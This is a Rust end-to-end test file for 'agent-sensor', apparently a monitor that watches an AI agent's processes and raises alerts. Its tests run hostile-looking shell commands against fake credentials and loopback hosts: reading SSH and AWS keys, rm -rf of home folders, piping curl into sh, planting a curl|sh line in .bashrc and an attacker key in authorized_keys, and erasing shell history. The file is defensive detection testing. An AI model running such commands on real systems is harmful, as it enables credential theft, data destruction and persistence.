@@ -1,0 +1,367 @@
+//! End-to-end: the default rule pack on the real kernel. Each rule's behaviour runs inside
+//! `agent-sensor watch` against fixtures the test creates (a fake home with fake keys, loopback
+//! listeners), and benign work raises nothing.
+
+mod support;
+
+use std::{
+    net::TcpListener,
+    os::unix::fs::PermissionsExt,
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+};
+
+use serde_json::Value;
+use support::*;
+
+/// A place for one scenario: a fake home, a project directory the agent starts in, and a
+/// directory under /tmp. Homes and projects live under the build's own temporary directory, not
+/// /tmp, because the default pack ignores deletions and downloads in /tmp-like places.
+struct Scenario {
+    root: tempfile::TempDir,
+    scratch: tempfile::TempDir,
+}
+
+impl Scenario {
+    fn new() -> Self {
+        let root = tempfile::Builder::new()
+            .prefix("rules-e2e-")
+            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+            .expect("scenario dir");
+        let scratch = tempfile::Builder::new()
+            .prefix("agent-e2e-")
+            .tempdir()
+            .expect("scratch dir");
+        let scenario = Self { root, scratch };
+        let home = scenario.home();
+        for dir in [".ssh", ".aws", ".kube", "Documents", ".config"] {
+            std::fs::create_dir_all(home.join(dir)).expect("home dirs");
+        }
+        for (file, text) in [
+            (".ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n"),
+            (".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n"),
+            (".ssh/id_ed25519.pub", "ssh-ed25519 AAAAfake e2e@test\n"),
+            (".ssh/known_hosts", "github.com ssh-ed25519 AAAAfake\n"),
+            (".aws/credentials", "[default]\naws_access_key_id = AKIAFAKE\n"),
+            (".kube/config", "apiVersion: v1\n"),
+            (".gitconfig", "[user]\n\tname = E2E\n\temail = e2e@example.invalid\n"),
+            (".bashrc", "# fake\n"),
+            (".bash_history", "ls\n"),
+            ("Documents/notes.txt", "notes\n"),
+        ] {
+            std::fs::write(home.join(file), text).expect("home files");
+        }
+        std::fs::create_dir_all(scenario.project().join("src")).expect("project");
+        std::fs::write(scenario.project().join("src/main.c"), "int main(void) { return 0; }\n").expect("source");
+        scenario
+    }
+
+    fn home(&self) -> PathBuf {
+        self.root.path().join("home")
+    }
+
+    fn project(&self) -> PathBuf {
+        self.root.path().join("project")
+    }
+
+    fn scratch(&self) -> &Path {
+        self.scratch.path()
+    }
+
+    /// Runs `script` under `agent-sensor watch` with this scenario's HOME, in its project, and
+    /// returns the alerts.
+    fn run(&self, script: &str, extra: &[&str]) -> Vec<Value> {
+        let alerts = self.root.path().join("alerts.jsonl");
+        let _ = std::fs::remove_file(&alerts);
+        let out = sensor()
+            .arg("watch")
+            .arg("--alerts")
+            .arg(&alerts)
+            .args(extra)
+            .args(["--", "bash", "-c", script])
+            .env("HOME", self.home())
+            .current_dir(self.project())
+            .stdin(Stdio::null())
+            .output()
+            .expect("run watch");
+        assert!(
+            out.status.success() || out.status.code().is_some(),
+            "watch failed: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(!stderr.contains("problems"), "rule packs did not load: {stderr}");
+        read_events(&alerts)
+    }
+}
+
+fn rule_ids(alerts: &[Value]) -> Vec<String> {
+    let mut ids: Vec<String> = alerts.iter().map(|a| str_field(a, "rule.id").to_string()).collect();
+    ids.sort();
+    ids.dedup();
+    ids
+}
+
+fn alert<'a>(alerts: &'a [Value], rule: &str) -> &'a Value {
+    alerts
+        .iter()
+        .find(|a| str_field(a, "rule.id") == rule)
+        .unwrap_or_else(|| panic!("no {rule} alert among {:?}", rule_ids(alerts)))
+}
+
+#[test]
+fn reading_a_private_key_alerts_and_three_keys_are_a_bulk_read() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    let alerts = s.run("cat ~/.ssh/id_rsa > /dev/null", &[]);
+    let read = alert(&alerts, "credential-file-read");
+    assert_eq!(str_field(read, "event.kind"), "alert");
+    assert_eq!(
+        str_field(read, "file.path"),
+        s.home().join(".ssh/id_rsa").display().to_string()
+    );
+    assert_eq!(str_field(read, "process.name"), "cat");
+    assert_eq!(str_field(read, "rule.ruleset"), "agent-sensor-default");
+    assert_eq!(str_field(read, "agent_sensor.alert.severity"), "high");
+    assert!(
+        field(read, "threat.technique.id")
+            .as_array()
+            .is_some_and(|ids| !ids.is_empty())
+    );
+    assert!(!rule_ids(&alerts).contains(&"credential-bulk-read".to_string()));
+
+    let alerts = s.run("cat ~/.ssh/id_rsa ~/.aws/credentials ~/.kube/config > /dev/null", &[]);
+    let bulk = alert(&alerts, "credential-bulk-read");
+    assert_eq!(field(bulk, "agent_sensor.alert.count").as_u64(), Some(3));
+    assert_eq!(
+        field(bulk, "agent_sensor.alert.events").as_array().map(Vec::len),
+        Some(3)
+    );
+}
+
+#[test]
+fn destroying_the_home_directory_alerts() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    let alerts = s.run("rm -rf ~/Documents", &[]);
+    let destructive = alert(&alerts, "destructive-command");
+    assert_eq!(str_field(destructive, "event.action"), "exec");
+    assert!(str_field(destructive, "process.command_line").starts_with("rm -rf"));
+    assert!(!s.home().join("Documents").exists(), "monitor mode only reports");
+}
+
+#[test]
+fn deleting_many_files_the_session_did_not_create_alerts_whatever_the_tool() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    for (tool, script) in [
+        ("rm", "rm -r ../victims"),
+        (
+            "python",
+            "/usr/bin/python3 -c 'import shutil; shutil.rmtree(\"../victims\")'",
+        ),
+    ] {
+        let s = Scenario::new();
+        let victims = s.root.path().join("victims");
+        std::fs::create_dir_all(&victims).expect("victims");
+        for i in 0..60 {
+            std::fs::write(victims.join(format!("file{i}.txt")), "x").expect("victim file");
+        }
+        let alerts = s.run(script, &[]);
+        let mass = alert(&alerts, "mass-delete");
+        assert!(
+            field(mass, "agent_sensor.alert.count").as_u64() >= Some(50),
+            "{tool}: {mass}"
+        );
+        assert!(!victims.exists(), "{tool} deleted them");
+    }
+}
+
+#[test]
+fn connecting_outside_the_allowlist_alerts() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    // Loopback stands in for the internet: this site's allowlist admits only 10.0.0.0/8 and 443.
+    let site = s.root.path().join("site-pack.yaml");
+    std::fs::write(
+        &site,
+        "ruleset: e2e-site\noverrides:\n  lists:\n    egress_allowed_cidrs: {replace: [10.0.0.0/8]}\n    egress_allowed_ports: {replace: [443]}\n",
+    )
+    .expect("site pack");
+    let listener = TcpListener::bind("127.0.0.2:0").expect("bind 127.0.0.2");
+    let port = listener.local_addr().expect("addr").port();
+    std::thread::spawn(move || for _ in listener.incoming() {});
+    let defaults = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default");
+    let rules = [
+        "--rules",
+        &defaults.display().to_string(),
+        "--rules",
+        &site.display().to_string(),
+    ];
+    let alerts = s.run(&format!("exec 3<>/dev/tcp/127.0.0.2/{port}; exec 3>&-"), &rules);
+    let egress = alert(&alerts, "unexpected-egress");
+    assert_eq!(str_field(egress, "destination.ip"), "127.0.0.2");
+    assert_eq!(field(egress, "destination.port").as_u64(), Some(port as u64));
+
+    // With the shipped allowlist, loopback is a local dev server: nothing to report.
+    let alerts = s.run(&format!("exec 3<>/dev/tcp/127.0.0.2/{port}; exec 3>&-"), &[]);
+    assert!(
+        !rule_ids(&alerts).contains(&"unexpected-egress".to_string()),
+        "{alerts:?}"
+    );
+}
+
+#[test]
+fn running_a_file_written_to_tmp_or_piping_a_download_into_a_shell_alerts() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    let payload = s.scratch().join("payload");
+    let alerts = s.run(
+        &format!("cp /bin/true {p} && chmod +x {p} && {p}", p = payload.display()),
+        &[],
+    );
+    let dropper = alert(&alerts, "download-then-exec");
+    assert_eq!(
+        str_field(dropper, "agent_sensor.exec.filename"),
+        payload.display().to_string()
+    );
+    assert_eq!(
+        field(dropper, "agent_sensor.alert.count").as_u64(),
+        Some(2),
+        "the write and the exec"
+    );
+
+    // Nothing listens on port 1: curl fails and sh runs nothing, but the command line says it all.
+    let alerts = s.run("bash -c 'curl -fsS http://127.0.0.1:1/install.sh | sh'; true", &[]);
+    alert(&alerts, "download-piped-to-shell");
+}
+
+#[test]
+fn writing_shell_startup_files_and_authorized_keys_alerts() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    let alerts = s.run("echo 'curl -s http://127.0.0.1:1/x | sh' >> ~/.bashrc", &[]);
+    let persistence = alert(&alerts, "persistence-write");
+    assert_eq!(
+        str_field(persistence, "file.path"),
+        s.home().join(".bashrc").display().to_string()
+    );
+    let alerts = s.run("echo 'ssh-ed25519 AAAAattacker' >> ~/.ssh/authorized_keys", &[]);
+    alert(&alerts, "persistence-write");
+}
+
+#[test]
+fn erasing_shell_history_alerts() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    let alerts = s.run("rm -f ~/.bash_history", &[]);
+    alert(&alerts, "history-tampering");
+}
+
+#[test]
+fn ordinary_development_work_raises_nothing() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let dev_port = listener.local_addr().expect("addr").port();
+    std::thread::spawn(move || for _ in listener.incoming() {});
+    let script = format!(
+        r#"set -e
+cc -o hello src/main.c && ./hello
+mkdir -p target/debug && for i in $(seq 80); do echo x > target/debug/obj$i.o; done
+./hello && rm -rf target
+mkdir -p node_modules/pkg && for i in $(seq 60); do echo x > node_modules/pkg/f$i.js; done
+rm -rf node_modules
+git init -q . && git add . && git commit -qm 'first commit'
+grep -rn main src > /dev/null
+cat src/main.c ~/.ssh/id_ed25519.pub ~/.gitconfig > /dev/null
+ls -la ~ ~/.ssh > /dev/null
+exec 3<>/dev/tcp/127.0.0.1/{dev_port}; exec 3>&-
+/usr/bin/python3 -c 'import os, tempfile; d = tempfile.mkdtemp(); open(os.path.join(d, "t"), "w").write("x")'
+"#
+    );
+    let alerts = s.run(&script, &[]);
+    assert!(alerts.is_empty(), "benign work raised: {:#?}", rule_ids(&alerts));
+}
+
+#[test]
+fn recorded_events_replay_to_the_same_alerts() {
+    if !require_root("rules e2e") {
+        return;
+    }
+    let s = Scenario::new();
+    let events = s.root.path().join("events.jsonl");
+    let live = s.run(
+        "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.kube/config > /dev/null; rm -rf ~/Documents",
+        &["--events", &events.display().to_string()],
+    );
+    let replayed = s.root.path().join("replayed.jsonl");
+    let out = sensor()
+        .args(["replay", "--events"])
+        .arg(&events)
+        .arg("--alerts")
+        .arg(&replayed)
+        .output()
+        .expect("replay");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let replayed = read_events(&replayed);
+    assert_eq!(rule_ids(&replayed), rule_ids(&live));
+    assert!(rule_ids(&live).len() >= 3, "{:?}", rule_ids(&live));
+}
+
+#[test]
+fn rule_authors_tools_work_from_the_command_line() {
+    // No kernel needed: these read files only.
+    let defaults = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default");
+    let out = sensor()
+        .args(["rules", "test"])
+        .arg(&defaults)
+        .output()
+        .expect("rules test");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{stdout}{}", String::from_utf8_lossy(&out.stderr));
+    assert!(stdout.contains(" 0 failed"), "{stdout}");
+
+    let out = sensor()
+        .args(["rules", "check"])
+        .arg(&defaults)
+        .output()
+        .expect("rules check");
+    assert!(out.status.success());
+
+    let dir = tempfile::tempdir().expect("tempdir");
+    let broken = dir.path().join("broken.yaml");
+    std::fs::write(
+        &broken,
+        "rules:\n  - id: bad\n    name: n\n    description: d\n    severity: high\n    when: {file.pth: /x}\n",
+    )
+    .expect("pack");
+    std::fs::set_permissions(&broken, std::fs::Permissions::from_mode(0o644)).expect("chmod");
+    let out = Command::new(sensor_binary())
+        .args(["rules", "check"])
+        .arg(&broken)
+        .output()
+        .expect("check");
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains(&format!("{}:6:12: unknown event field `file.pth`", broken.display())),
+        "{stderr}"
+    );
+    assert!(stderr.contains("did you mean `file.path`"), "{stderr}");
+}
